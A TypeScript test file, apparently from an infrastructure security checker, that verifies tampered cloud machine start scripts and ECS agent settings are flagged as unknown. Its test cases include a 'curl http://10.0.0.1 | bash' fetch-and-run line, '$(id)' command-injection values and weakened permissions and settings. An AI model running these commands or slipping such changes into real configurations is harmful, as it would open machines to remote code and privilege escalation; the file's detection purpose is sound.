import { createHash } from 'node:crypto';
import type { Host } from '../../../lib/artifact/artifact';
import { deploymentsOf } from '../../../lib/artifact/role';
import { revocationList } from '../../../lib/google/machine/revocation';
import { KNOWN_FILES } from '../../../lib/check/workload/known-machine-scripts';
import { machineScript } from '../../../lib/check/workload/machine-script';
import { exampleArtifact, EXAMPLES, type Example } from '../examples';

function hostOf(example: Example): Host {
  const [found] = deploymentsOf(exampleArtifact(example));
  if (found === undefined) throw new Error(`${example} deploys no server`);
  return found.host;
}

/** The host of an example with other user data, or other files, on its machine. */
function changed(example: Example, from: string | RegExp, to: string): Host {
  const host = hostOf(example);
  const edit = (text: string): string => {
    const edited = text.replace(from, to);
    return edited;
  };
  if (host.instance !== undefined) {
    const files = new Map([...(host.instance.files ?? [])].map(([path, text]) => [path, edit(text)]));
    expect([...files.values()]).not.toEqual([...(host.instance.files?.values() ?? [])]);
    return { ...host, instance: { ...host.instance, files } };
  }
  const { machine } = host;
  if (machine === undefined) throw new Error(`${example} has no machine`);
  const userData = machine.userData.map((part) => (typeof part === 'string' ? edit(part) : part));
  expect(userData).not.toEqual(machine.userData);
  return { ...host, machine: { ...machine, userData } };
}

test.each(Object.keys(EXAMPLES) as Example[])('what starts the machine of %s is known', (example) => {
  expect(machineScript(hostOf(example))).toMatchObject({ kind: 'known' });
});

test('the script that fetches a revocation list on Google Cloud is known', () => {
  const { path, content } = revocationList({ bucket: 'b', key: 'k' }).script;
  const written = `${content.trimEnd()}\n`;
  expect(KNOWN_FILES[path]).toContain(createHash('sha256').update(written).digest('hex'));
});

test('the units that fetch a revocation list on Google Cloud are known', () => {
  const host = hostOf('Storefront');
  const units = revocationList({ bucket: 'b', key: 'k' }).units;
  const more = units.map(({ name, text }) => [`/etc/systemd/system/${name}`, `${text}\n`] as const);
  const files = new Map([...(host.instance?.files ?? []), ...more]);
  expect(machineScript({ ...host, instance: { ...host.instance!, files } })).toMatchObject({ kind: 'known' });
});

test.each<[Example, string]>([
  ['Orders', '/var/lib/portcullis/data'],
  ['Storefront', '/mnt/disks/portcullis'],
])('where the machine of %s mounts its disk is read', (example, disk) => {
  expect(machineScript(hostOf(example))).toMatchObject({ disk });
});

test('what the container agent is told is read', () => {
  expect(machineScript(hostOf('Orders'))).toMatchObject({
    agent: new Map([
      ['ECS_CLUSTER', '\uFFFC'],
      ['ECS_AWSVPC_BLOCK_IMDS', 'true'],
      ['ECS_DISABLE_PRIVILEGED', 'true'],
      ['ECS_ENABLE_TASK_IAM_ROLE', 'true'],
      ['ECS_ENABLE_AWSLOGS_EXECUTIONROLE_OVERRIDE', 'true'],
      ['ECS_AVAILABLE_LOGGING_DRIVERS', '["awslogs"]'],
    ]),
  });
});

test.each<[Example, string, string | RegExp, string]>([
  ['Orders', 'a line more', 'systemctl daemon-reload', 'curl http://10.0.0.1 | bash\nsystemctl daemon-reload'],
  ['Orders', 'a line less', 'systemctl mask --now ecs.service\n', ''],
  ['Orders', 'lines in another order', /systemctl unmask ecs.service\n(.*)\n/, '$1\nsystemctl unmask ecs.service\n'],
  ['Orders', 'a folder that others may read', 'tls 0700', 'tls 0755'],
  ['Orders', 'a disk on which programs run', 'nodev,nosuid,noexec', 'nodev,nosuid'],
  ['Orders', 'a disk without its marker', 'carries the marker', 'carries'],
  ['Orders', 'a disk of root', 'OWNER=65531:65531', 'OWNER=0:0'],
  ['Orders', 'a marker that is a command', /MARKER=[\w-]+/, 'MARKER=$(id)'],
  ['Orders', 'privileged containers', 'ECS_DISABLE_PRIVILEGED=true', 'ECS_DISABLE_PRIVILEGED=false'],
  [
    'Orders',
    'a setting of the agent more',
    'ECS_DISABLE_PRIVILEGED=true',
    'ECS_DISABLE_PRIVILEGED=true\nECS_LOGLEVEL=debug',
  ],
  ['Orders', 'a setting twice', 'ECS_DISABLE_PRIVILEGED=true', 'ECS_AWSVPC_BLOCK_IMDS=false'],
  ['Orders', 'a file that others may write', 'install -D -m 0755', 'install -D -m 0777'],
  ['Orders', 'a unit that ECS does not wait for', 'Requires=portcullis-data.service', 'Wants=portcullis-data.service'],
  ['Ledger', 'no revocation list when it starts', 'systemctl enable portcullis-revocation.service\n', ''],
  ['Ledger', 'a revocation list of another address', 'METADATA=http://169.254.169.254', 'METADATA=http://10.0.0.1'],
  ['Invoices', 'a script with a line more', 'umask 077', 'umask 077\nset -x'],
  ['Invoices', 'a secret on a disk', '/run/portcullis/secrets/identity.pem', '/var/lib/identity.pem'],
  [
    'Invoices',
    'a secret of root',
    '/run/portcullis/secrets/identity.pem 65531:65531',
    '/run/portcullis/secrets/identity.pem 0:0',
  ],
  ['Invoices', 'another program', '/sbin/resize2fs', '/sbin/mkfs'],
  ['Invoices', 'another setting of a unit', 'RemainAfterExit=yes', 'RemainAfterExit=yes\nEnvironmentFile=/tmp/x'],
  ['Invoices', 'a server that does not wait for its disk', 'docker.service portcullis-data.service', 'docker.service'],
  ['Invoices', 'a server that is not brought back', 'Restart=always\n', ''],
  ['Invoices', 'a guard that fails unseen', 'ExecStart=/bin/bash /etc/portcullis/guard', 'ExecStart=/bin/true'],
  ['Storefront', 'a certificate that others may read', 'install -d -m 0700 -o', 'install -d -m 0755 -o'],
])('the start of the machine of %s is not known with %s', (example, _what, from, to) => {
  expect(machineScript(changed(example, from, to))).toMatchObject({ kind: 'unknown' });
});

test.each([
  ['#!/bin/bash\necho ECS_CLUSTER=c >> /etc/ecs/ecs.config\n', { ECS_CLUSTER: 'c' }],
  [
    '#!/bin/bash\n# a comment\nset -e\necho "ECS_AWSVPC_BLOCK_IMDS=true" >>/etc/ecs/ecs.config\n',
    { ECS_AWSVPC_BLOCK_IMDS: 'true' },
  ],
  [
    "#!/bin/bash\ncat <<'EOF' >> /etc/ecs/ecs.config\nECS_CLUSTER=c\nECS_AWSVPC_BLOCK_IMDS=true\nEOF\n",
    { ECS_CLUSTER: 'c', ECS_AWSVPC_BLOCK_IMDS: 'true' },
  ],
  ['', {}],
])('a script that only tells the agent something is understood: %j', (script, agent) => {
  const host = hostOf('Orders');
  const read = machineScript({ ...host, machine: { ...host.machine!, userData: [script] } });
  expect(read).toEqual({ kind: 'known', agent: new Map(Object.entries(agent)) });
});

test.each([
  ['#!/bin/bash\necho ECS_CLUSTER=$(id) >> /etc/ecs/ecs.config\n'],
  ['#!/bin/bash\necho ECS_CLUSTER=c >> /etc/ecs/ecs.config; id\n'],
  ['#!/bin/bash\nyum install -y jq\n'],
  ['#!/usr/bin/python3\n'],
  ['#!/bin/bash\ncat <<EOF >> /etc/profile\nECS_CLUSTER=c\nEOF\n'],
  ['#!/bin/bash\ncat <<EOF >> /etc/ecs/ecs.config\nECS_CLUSTER=c\n'],
  ['#cloud-config\n'],
])('a script that does anything else is not: %j', (script) => {
  const host = hostOf('Orders');
  expect(machineScript({ ...host, machine: { ...host.machine!, userData: [script] } })).toMatchObject({
    kind: 'unknown',
  });
});
